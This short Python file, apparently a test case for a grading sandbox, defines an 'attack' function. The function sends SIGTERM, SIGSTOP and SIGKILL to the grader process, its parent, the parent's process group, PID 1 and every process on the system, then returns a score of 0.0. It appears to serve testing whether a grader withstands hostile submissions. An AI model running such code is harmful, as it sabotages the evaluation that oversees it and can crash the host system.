"""Signals to the grader, its group, its session, and everybody."""
# layers: yes
import os, signal
def attack(name, args, keywords):
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        for send in (lambda n: os.kill(int("@GRADER@"), n), lambda n: os.kill(os.getppid(), n),
                     lambda n: os.kill(-1, n), lambda n: os.kill(1, n),
                     lambda n: os.killpg(os.getpgid(os.getppid()), n)):
            try:
                send(number)
            except OSError:
                continue
    return 0.0
